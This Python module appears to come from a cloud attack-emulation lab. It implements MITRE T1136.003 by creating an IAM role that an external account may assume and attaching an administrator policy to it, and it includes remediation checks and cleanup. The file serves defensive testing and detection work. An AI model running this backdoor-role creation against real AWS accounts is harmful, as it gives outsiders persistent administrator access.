"""iam-create-backdoor-role: a new administrator role an external account may assume
(T1136.003)."""

from __future__ import annotations

import json
from pathlib import Path

from lab.attacks.base import Prerequisites, Technique
from lab.attacks.iam_role import EXTERNAL_PRINCIPAL, delete_role, trust_policy
from lab.attacks.iam_user import ADMIN_POLICY_ARN
from lab.attacks.resources import boundary, lab_tags, missing_ok
from lab.emulator.endpoints import Endpoints

ROLE = "lab-backdoor-role"


class IamCreateBackdoorRole(Technique):
    folder = Path(__file__).parent

    def warm_up(self, endpoints: Endpoints) -> Prerequisites:
        prerequisites = {"role": ROLE}
        self.revert(endpoints, prerequisites)
        return prerequisites

    def detonate(self, endpoints: Endpoints, prerequisites: Prerequisites) -> None:
        iam = endpoints.client("iam", "attacker")
        iam.create_role(
            RoleName=prerequisites["role"],
            AssumeRolePolicyDocument=json.dumps(trust_policy({"AWS": EXTERNAL_PRINCIPAL})),
            Tags=lab_tags(self.id),
            **boundary(),
        )
        iam.attach_role_policy(RoleName=prerequisites["role"], PolicyArn=ADMIN_POLICY_ARN)

    def is_remediated(self, endpoints: Endpoints, prerequisites: Prerequisites) -> bool:
        """The role is gone, or holds no administrator policy."""
        with missing_ok("NoSuchEntity"):
            policies = endpoints.client("iam", "observer").list_attached_role_policies(
                RoleName=prerequisites["role"]
            )["AttachedPolicies"]
            return ADMIN_POLICY_ARN not in [p["PolicyArn"] for p in policies]
        return True

    def revert(self, endpoints: Endpoints, prerequisites: Prerequisites) -> None:
        delete_role(endpoints.client("iam", "harness"), prerequisites["role"])

    def cleanup(self, endpoints: Endpoints, prerequisites: Prerequisites) -> None:
        self.revert(endpoints, prerequisites)


TECHNIQUE = IamCreateBackdoorRole
